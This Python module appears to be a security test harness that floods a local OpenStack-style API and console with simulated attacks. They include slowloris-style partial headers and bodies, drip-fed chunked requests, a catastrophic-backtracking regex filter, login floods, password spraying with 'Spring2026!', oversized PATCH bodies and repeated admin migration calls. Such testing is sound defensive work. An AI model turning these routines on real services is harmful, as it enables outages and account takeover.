"""Those who attack, each kind as the review has found it; they run in a process of their own, from other addresses."""

from __future__ import annotations

import http.client
import json
import random
import secrets
import socket
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from functools import partial
from urllib.parse import quote

from tests.attack.others import JSON, Connection, session, token

BROKEN = (OSError, http.client.HTTPException, RuntimeError)
BACKTRACKS = "^(?:" + "|".join([r"[\w.-]"] * 12) + ")*!"
"""A pattern that an engine which backtracks does not finish."""


@dataclass(frozen=True)
class Target:
    """Where to, as whom, and at what."""

    port: int
    passwords: dict[str, str]
    reader: str
    member: str
    project: str
    servers: tuple[str, ...] = ()
    """Of servers that could move to hosts that hang."""


Attack = Callable[[Target, threading.Event, str], None]
ATTACKS: dict[str, tuple[Attack, int]] = {}
"""By name: what it does, and by how many at a time."""
SLOW = ("half a header", "half a body", "drop by drop", "reads nothing", "hosts that hang")


def attack(name: str, number: int) -> Callable[[Attack], Attack]:
    """Register an attack by `number` at a time."""

    def register(function: Attack) -> Attack:
        ATTACKS[name] = (function, number)
        return function

    return register


def hold(target: Target, over: threading.Event, source: str, sent: bytes, drops: bytes = b"") -> None:
    """Send `sent` on a new connection, then a byte of `drops` a second, until somebody ends it; again and again."""
    while not over.is_set():
        with (
            suppress(OSError),
            socket.create_connection(("127.0.0.1", target.port), 5) as client,
        ):
            client.sendall(sent)
            client.settimeout(1)
            while not over.is_set():
                if drops:
                    client.sendall(drops)
                try:
                    if not client.recv(4096):
                        break
                except TimeoutError:
                    continue
        over.wait(0.2)


HEAD = b"POST /v2.1/servers HTTP/1.1\r\nHost: here\r\n"
attack("half a header", 150)(partial(hold, sent=HEAD + b"X-a: "))
attack("half a body", 50)(partial(hold, sent=HEAD + b"Content-Length: 90000\r\n\r\n{"))
attack("drop by drop", 50)(
    partial(hold, sent=HEAD + b"Transfer-Encoding: chunked\r\n\r\n", drops=b"1\r\na\r\n")
)


@attack("reads nothing", 20)
def read_nothing(target: Target, over: threading.Event, source: str) -> None:
    """Ask for long answers, and read none of them."""
    asked = b"GET /openapi HTTP/1.1\r\nHost: here\r\n\r\n" * 20
    while not over.is_set():
        with (
            suppress(OSError),
            socket.create_connection(("127.0.0.1", target.port), 5) as client,
        ):
            client.sendall(asked)
            over.wait(10)


@attack("hosts that hang", 16)
def move_to_hosts_that_hang(target: Target, over: threading.Event, source: str) -> None:
    """Ask for moves for which the caller waits, and for surveys of all hosts."""
    connection = Connection(target.port, source)
    with suppress(*BROKEN):
        headers = {
            "X-Auth-Token": token(connection, "admin", target.passwords["admin"], "admin"),
            "X-OpenStack-Nova-API-Version": "2.30",
            **JSON,
        }
        cookie = session(connection, "admin", target.passwords["admin"])
    body = json.dumps({"os-migrateLive": {"host": None, "block_migration": "auto", "force": False}})
    while not over.is_set():
        with suppress(*BROKEN, NameError):
            connection.ask("POST", f"/v2.1/servers/{random.choice(target.servers)}/action", body, headers)
            connection.ask("GET", "/admin/servers/host/discover/", headers={"Cookie": cookie})
        over.wait(1)


@attack("strangers who log in", 20)
def log_in_as_anybody(target: Target, over: threading.Event, source: str) -> None:
    """Try names that nobody has, from many addresses."""
    while not over.is_set():
        other = f"100.{random.randint(64, 127)}.{random.randint(0, 255)}.{random.randint(1, 254)}"
        with suppress(*BROKEN):
            token(Connection(target.port, other), secrets.token_hex(8), "wrong", "admin")
        over.wait(0.05)


@attack("one who tries names", 4)
def spray(target: Target, over: threading.Event, source: str) -> None:
    """Try one password for each name, from one address, by both ways."""
    connection = Connection(target.port, source)
    while not over.is_set():
        for name in [*target.passwords, secrets.token_hex(4)]:
            for way in (partial(token, project="admin"), session):
                with suppress(*BROKEN):
                    way(connection, name, "Spring2026!")
        over.wait(0.1)


@attack("patterns", 4)
def look_up(target: Target, over: threading.Event, source: str) -> None:
    """Look up by patterns, as a reader, in the console and by REST."""
    connection = Connection(target.port, source)
    with suppress(*BROKEN):
        password = target.passwords[target.reader]
        cookie = {"Cookie": session(connection, target.reader, password)}
        headers = {"X-Auth-Token": token(connection, target.reader, password, target.project)}
    pattern = quote(BACKTRACKS)
    while not over.is_set():
        with suppress(*BROKEN, NameError):
            connection.ask("GET", f"/admin/servers/server/?name__regex={pattern}", headers=cookie)
            connection.ask("GET", f"/v2.1/servers/detail?name={pattern}", headers=headers)
        over.wait(0.1)


@attack("large patches", 4)
def patch_largely(target: Target, over: threading.Event, source: str) -> None:
    """Send patches of 15 MiB, with and without a length."""
    connection = Connection(target.port, source)
    body = b"[" + b"{}," * 5_000_000 + b"{}]"
    with suppress(*BROKEN):
        headers = {
            "X-Auth-Token": token(connection, target.member, target.passwords[target.member], target.project)
        }
    while not over.is_set():
        with suppress(*BROKEN, NameError):
            connection.ask("PATCH", f"/image/v2/images/{'0' * 32}", body, headers)
        over.wait(1)


def run(target: Target, names: tuple[str, ...], over: threading.Event) -> None:
    """Attack in these ways until `over` is set."""
    threads = []
    for place, name in enumerate(names):
        function, number = ATTACKS[name]
        for one in range(number):
            source = f"198.51.{100 + place}.{one + 1}"
            threads.append(threading.Thread(target=function, args=(target, over, source), daemon=True))
    for thread in threads:
        thread.start()
        time.sleep(0.002)
    over.wait()
    time.sleep(1)
